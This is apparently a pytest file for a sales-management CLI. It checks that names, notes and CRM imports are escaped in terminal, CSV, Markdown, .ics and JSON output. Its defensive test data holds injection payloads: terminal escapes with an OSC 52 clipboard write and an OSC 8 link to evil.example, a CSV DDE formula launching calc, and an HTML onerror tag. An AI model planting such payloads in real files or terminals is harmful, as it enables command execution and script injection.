"""Issue 17's output findings, one test each, exact bytes: terminal escapes, names as rich
markup, CSV formulas and a lone CR, Markdown/HTML, the .ics, JSON's C1 controls, the
capped large-deal list and activity imports' control characters."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from tests.conftest import Run

TODAY = "2026-11-27"
ANNA = "managers/anna-kovacs.yaml"
LATEST = "meetings/anna-kovacs/2026-11-23.yaml"
ROOT = Path(__file__).resolve().parents[2]


def _edit(root: Path, name: str, old: str, new: str) -> None:
    path = root / name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _manager_named(root: Path, name: str) -> None:
    _edit(root, ANNA, "name: Anna Kovács", f"name: {json.dumps(name)}")


def _rep_named(root: Path, name: str) -> None:
    _edit(root, ANNA, "    name: Petra Nagy\n", f"    name: {json.dumps(name)}\n")


def _petras_note(root: Path, note: str) -> None:
    _edit(
        root,
        LATEST,
        'petra-nagy: {score: 3, note: "96%, steady"}',
        "petra-nagy: {score: 3, note: " + json.dumps(note) + "}",
    )


def _lines_with(text: str, part: str) -> list[str]:
    return [line for line in text.splitlines() if part in line]


# ---------------------------------------------------------------- terminal escapes


def test_an_escape_in_a_name_reaches_the_terminal_as_text(cli: Run, example: Path) -> None:
    _manager_named(example, "Anna \x1b[2J\x1b]52;c;SGVsbG8=\x07\x9b31m")
    result = cli("--repo", example, "--today", TODAY, "schedule")
    assert result.exit_code == 0, result.output
    first, reason = _lines_with(result.stdout, "Anna ")
    assert first == "Anna \\x1b[2J\\x1b]52;c;SGVsbG8=\\x07\\x9b31m"
    assert reason.startswith("Anna \\x1b[2J\\x1b]52;c;SGVsbG8=\\x07\\x9b31m: every 7 days")


def test_an_osc8_link_in_a_note_is_shown_not_followed(cli: Run, example: Path) -> None:
    _petras_note(example, "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\")
    result = cli("--repo", example, "--today", TODAY, "rate", "show", "anna-kovacs")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout
    assert "\\x1b]8;;http://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\" in result.stdout


def test_an_escape_in_a_crm_owner_is_refused_and_shown_in_the_refusal(
    cli: Run, example: Path, tmp_path: Path
) -> None:
    export = tmp_path / "deals.csv"
    export.write_text(
        "id,name,owner,stage,amount,created,closed\n"
        "D1,Globex,Petra Nagy,Proposal,900,2026-10-01,\n"
        "D2,Initech,Eve \x1b[2J,Proposal,900,2026-10-01,\n",
        encoding="utf-8",
    )
    result = cli("--repo", example, "--today", TODAY, "funnel", "import", export)
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr
    assert "the owner 'Eve \\x1b[2J' holds a control character (U+001B)" in result.stderr


# ---------------------------------------------------------------- names are never markup


def test_a_link_in_a_name_is_printed_as_written(cli: Run, example: Path) -> None:
    _manager_named(example, "[link=https://x]Anna[/link]")
    result = cli("--repo", example, "--today", TODAY, "schedule")
    assert result.exit_code == 0, result.output
    assert "[link=https://x]Anna[/link]: every 7 days" in result.stdout


def test_a_bracketed_word_and_an_emoji_code_in_a_name_stay(cli: Run, example: Path) -> None:
    _rep_named(example, "Petra Nagy [intern] :thumbs_up:")
    result = cli("--repo", example, "--today", TODAY, "goals", "anna-kovacs")
    assert result.exit_code == 0, result.output
    rows = _lines_with(result.stdout, "Petra Nagy")
    assert rows  # was 'Petra Nagy  👍': the tag read as markup, the code as an emoji
    assert all("Petra Nagy [intern] :thumbs_up:" in row for row in rows)
    assert "\N{THUMBS UP SIGN}" not in result.stdout


def test_a_closing_tag_in_a_name_does_not_crash(cli: Run, example: Path) -> None:
    _manager_named(example, "Anna Kovács [/ops]")
    assert cli("--repo", example, "--today", TODAY, "check").exit_code == 0
    result = cli("--repo", example, "--today", TODAY, "schedule")
    assert result.exit_code == 0, result.output  # was MarkupError, exit 3
    assert "Anna Kovács [/ops]: every 7 days" in result.stdout


def test_an_emoji_code_in_a_name_stays_a_code(cli: Run, example: Path) -> None:
    _manager_named(example, "Anna :thumbs_up:")
    result = cli("--repo", example, "--today", TODAY, "schedule", "next", "anna-kovacs")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("Anna :thumbs_up: (anna-kovacs): next 1:1")


def test_a_crlf_in_a_name_adds_no_row_to_the_schedule(cli: Run, example: Path) -> None:
    _manager_named(example, "Anna\r\nFake Row")
    result = cli("--repo", example, "--today", TODAY, "schedule")
    assert result.exit_code == 0, result.output
    assert not [line for line in result.stdout.splitlines() if line.startswith("Fake Row")]
    assert "Anna Fake Row" in result.stdout


# ---------------------------------------------------------------- CSV


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("note", "cell"),
    [
        ('=HYPERLINK("http://x"&A1,"Click")', '\'=HYPERLINK("http://x"&A1,"Click")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
    ],
)
def test_a_formula_note_is_not_a_formula_in_rate_show_csv(
    cli: Run, example: Path, note: str, cell: str
) -> None:
    _petras_note(example, note)
    result = cli("--repo", example, "--today", TODAY, "rate", "show", "anna-kovacs", "-f", "csv")
    assert result.exit_code == 0, result.output
    rows = [
        r for r in _csv(result.stdout) if r["rep"] == "petra-nagy" and r["date"] == "2026-11-23"
    ]
    assert [r["note"] for r in rows] == [cell]
    assert [r["score"] for r in rows] == ["3"]


def test_a_formula_name_is_not_a_formula_in_schedule_csv(cli: Run, example: Path) -> None:
    _manager_named(example, "=cmd|' /C calc'!A0")
    result = cli("--repo", example, "--today", TODAY, "schedule", "-f", "csv")
    assert result.exit_code == 0, result.output
    rows = _csv(result.stdout)
    assert rows[0]["manager_name"] == "'=cmd|' /C calc'!A0"
    assert {r["planned"] for r in rows} <= {"true", "false"}
    assert all(not r["in_days"].startswith("'") for r in rows)


def test_a_lone_cr_in_a_note_does_not_split_the_csv_row(cli: Run, example: Path) -> None:
    _petras_note(example, "first\rsecond")
    result = cli("--repo", example, "--today", TODAY, "rate", "show", "anna-kovacs", "-f", "csv")
    assert result.exit_code == 0, result.output
    assert "\r" not in result.stdout
    assert '"first\nsecond"' in result.stdout
    rows = _csv(result.stdout)
    assert all(len(r) == 10 and None not in r for r in rows)
    assert [r["note"] for r in rows if r["note"].startswith("first")] == ["first\nsecond"]


# ---------------------------------------------------------------- Markdown


def test_rate_show_markdown_escapes_a_rep_name(cli: Run, example: Path) -> None:
    _rep_named(example, "<img src=x onerror=alert(1)>\rX")
    result = cli(
        "--repo", example, "--today", TODAY, "rate", "show", "anna-kovacs", "-f", "markdown"
    )
    assert result.exit_code == 0, result.output
    (row,) = _lines_with(result.stdout, "onerror")
    assert row.startswith("| \\<img src=x onerror=alert(1)\\> X | ")
    (head,) = _lines_with(result.stdout, "| Rep |")
    assert row.count(" |") == head.count(" |")  # every column: the row did not split


def test_funnel_review_markdown_escapes_an_unmatched_owner(
    cli: Run, example: Path, tmp_path: Path
) -> None:
    export = tmp_path / "deals.csv"
    export.write_text(
        "id,name,owner,stage,amount,created,closed\n"
        "D1,Globex,Petra Nagy,Proposal,900,2026-10-01,\n"
        "D2,Initech,<img src=x onerror=alert(1)> [x](http://e),Proposal,900,2026-10-01,\n",
        encoding="utf-8",
    )
    assert cli("--repo", example, "--today", TODAY, "funnel", "import", export).exit_code == 0
    result = cli("--repo", example, "--today", TODAY, "funnel", "review", "-f", "markdown")
    assert result.exit_code == 0, result.output
    (note,) = _lines_with(result.stdout, "Note:")
    assert "owner who is no rep: \\<img src=x onerror=alert(1)\\> \\[x\\](http://e) (1)" in note


# ---------------------------------------------------------------- .ics and JSON


def test_an_escape_in_a_move_reason_is_text_in_the_ics(cli: Run, example: Path) -> None:
    moved = cli(
        *("--repo", example, "--today", TODAY, "meeting", "move", "anna-kovacs"),
        *("--to", "2026-12-01", "--because", "sick \x1b]52;c;SGVsbG8=\x07"),
    )
    assert moved.exit_code == 0, moved.output
    result = cli("--repo", example, "--today", TODAY, "calendar", "export")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout
    assert "\x07" not in result.stdout
    unfolded = result.stdout.replace("\n ", "")  # click's stdout reads CRLF as \n
    assert "Moved from 2026-11-30: sick \\\\x1b]52\\;c\\;SGVsbG8=\\\\x07." in unfolded


def test_json_writes_c1_controls_escaped_and_reads_back_the_same(cli: Run, example: Path) -> None:
    _petras_note(example, "a\x9b31m\x85b\u202ec")
    result = cli("--repo", example, "--today", TODAY, "rate", "show", "anna-kovacs", "-f", "json")
    assert result.exit_code == 0, result.output
    assert "\\u009b31m\\u0085b\\u202ec" in result.stdout
    assert not any(0x7F <= ord(ch) <= 0x9F for ch in result.stdout)
    (anna,) = json.loads(result.stdout)["managers"]
    petra = next(r for r in anna["reps"] if r["rep"] == "petra-nagy")
    assert petra["notes"]["2026-11-23"] == "a\x9b31m\x85b\u202ec"


# ---------------------------------------------------------------- capped lists


@pytest.fixture
def crm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    root = tmp_path / "crm"
    shutil.copytree(ROOT / "examples" / "crm-sample", root)
    shutil.rmtree(root / "funnel")
    return root


def _three_hundred_large_deals() -> None:
    """``export.csv``: a won deal and 300 open ones of 900,000 or so, all Violet Mclelland's."""
    rows = [
        "opportunity_id,sales_agent,product,account,deal_stage,engage_date,close_date,close_value",
        "A1,Violet Mclelland,GTX,Acme,Won,2016-10-20,2017-03-01,1054",
        *(
            f"B{i:03},Violet Mclelland,GTX,Acme{i:03},Engaging,2017-01-20,,{900000 - i}"
            for i in range(300)
        ),
    ]
    Path("export.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")


def test_a_review_of_many_large_deals_names_ten_then_how_many_more(
    cli: Run, crm: Path, tmp_path: Path
) -> None:
    _three_hundred_large_deals()
    assert (
        cli("--repo", crm, "--today", "2017-03-05", "funnel", "import", "export.csv").exit_code == 0
    )
    text = cli("--repo", crm, "--today", "2017-03-05", "funnel", "review").stdout
    markdown = cli(
        "--repo", crm, "--today", "2017-03-05", "funnel", "review", "-f", "markdown"
    ).stdout
    for out in (text, markdown):
        flat = " ".join(out.split())
        assert flat.count("(violet-mclelland), ") == 10
        assert "Acme009 (B009) (violet-mclelland), 899,991 at engaging" in flat
        assert "; … and 290 more. Agree the strategy" in flat
        assert "Acme010" not in flat
    data = json.loads(
        cli("--repo", crm, "--today", "2017-03-05", "funnel", "review", "-f", "json").stdout
    )
    found = [
        f
        for team in data["teams"]
        for rep in team["reps"]
        for f in rep["diagnostics"]
        if f["code"] == "large-deal"
    ]
    assert [len(f["deals"]) for f in found] == [300]
    assert found[0]["message"].count("(violet-mclelland), ") == 300  # JSON has them all


# ---------------------------------------------------------------- activity imports


ACTIVITY_HEAD = "id,type,owner,date,done,subject,deal\n"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            "a\r2,call,Petra Nagy,2026-11-20,yes,Intro,D1\n",
            "the activity ID 'a\\r2' holds a control character or line separator (U+000D) "
            "(column 'id')",
        ),
        (
            "a2,call,Petra \x1b[2J,2026-11-20,yes,Intro,D1\n",
            "the owner 'Petra \\x1b[2J' holds a control character (U+001B) (column 'owner')",
        ),
        (
            "a2,call,Petra\x00Nagy,2026-11-20,yes,Intro,D1\n",
            "the owner 'Petra\\x00Nagy' holds a control character (U+0000) (column 'owner')",
        ),
    ],
    ids=["CR in the ID", "ESC in the owner", "NUL in the owner"],
)
def test_an_activity_id_or_owner_with_a_control_is_refused(
    cli: Run, example: Path, tmp_path: Path, row: str, message: str
) -> None:
    export = tmp_path / "acts.csv"
    export.write_bytes(
        (ACTIVITY_HEAD + '"' + '","'.join(row.rstrip("\n").split(",")) + '"\n').encode()
    )
    result = cli("--repo", example, "--today", TODAY, "funnel", "import", export, "--activities")
    assert result.exit_code == 1, result.output
    assert message in result.stderr
    assert not (example / "funnel" / "activities").exists() or not list(
        (example / "funnel" / "activities").glob("*.csv")
    )


def test_an_activity_subject_gets_spaces_for_its_controls(
    cli: Run, example: Path, tmp_path: Path
) -> None:
    export = tmp_path / "acts.csv"
    export.write_bytes(
        (ACTIVITY_HEAD + "a1,call,Petra Nagy,2026-11-20,yes,Intro\x1b[2J call,D1\n").encode()
    )
    result = cli("--repo", example, "--today", TODAY, "funnel", "import", export, "--activities")
    assert result.exit_code == 0, result.output
    (stored,) = (example / "funnel" / "activities").glob("*.csv")
    assert "Intro [2J call" in stored.read_text(encoding="utf-8")
    assert "\x1b" not in stored.read_text(encoding="utf-8")


def test_the_agenda_lists_ten_large_deals_then_how_many_more(
    cli: Run, crm: Path, tmp_path: Path
) -> None:
    _three_hundred_large_deals()
    day = ("--repo", crm, "--today", "2017-03-05")
    assert cli(*day, "funnel", "import", "export.csv").exit_code == 0
    for fmt in ("text", "markdown"):
        out = cli(*day, "agenda", "next", "cara-losch", "-f", fmt).stdout
        flat = " ".join(out.split())
        assert "Acme009" in flat
        assert "Acme010" not in flat
        assert "… and 290 more (see funnel review)" in flat
